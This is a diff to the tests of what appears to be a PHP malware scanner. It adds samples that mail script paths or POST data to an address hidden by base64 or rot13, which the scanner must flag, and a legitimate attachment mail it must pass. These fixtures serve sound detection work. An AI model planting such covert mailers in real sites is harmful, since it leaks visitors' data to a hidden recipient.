@@ -1347,6 +1347,15 @@ test_shell_behaviours(void)
 			 "$c = new Cache();\n");
 	T_CLEAN("x.php", "<?php\nclass Zipper { function add($d) { return scandir($d); } }\nif (PHP_SAPI !== 'cli') exit;\n"
 			 "$d = $_GET['d'];\nunlink($d . '/' . $argv[1]);\n");
+	/* mail to an address the page hides: decoded, directly or through a variable */
+	T_HAS("x.php", "<?php\n$m = base64_decode('b3duZXJAZXhhbXBsZS5vcmc=');\n$b = $_SERVER['SCRIPT_FILENAME'];\n"
+		       "mail($m, 'new', $b);\n",
+	      PHPSCAN_MAIL_HOME, PHPSCAN_WEAK, 4);
+	T_HAS("x.php", "<?php\n@mail(str_rot13('bjare@rknzcyr.bet'), 'cc', $_POST['cc']);\n", PHPSCAN_MAIL_HOME,
+	      PHPSCAN_WEAK, 2);
+	/* a fixed address; an attachment encoded in the body */
+	T_CLEAN("x.php", "<?php\n$to = 'office@example.org';\n$att = chunk_split(base64_encode(file_get_contents('r.pdf')));\n"
+			 "mail($to, 'report', \"--b\\r\\nContent-Transfer-Encoding: base64\\r\\n\\r\\n\" . $att, $h);\n");
 	/* a payload cut into pieces of one line each, joined by `.`: judged whole */
 	{
 		static char src[16384], b64[4096];
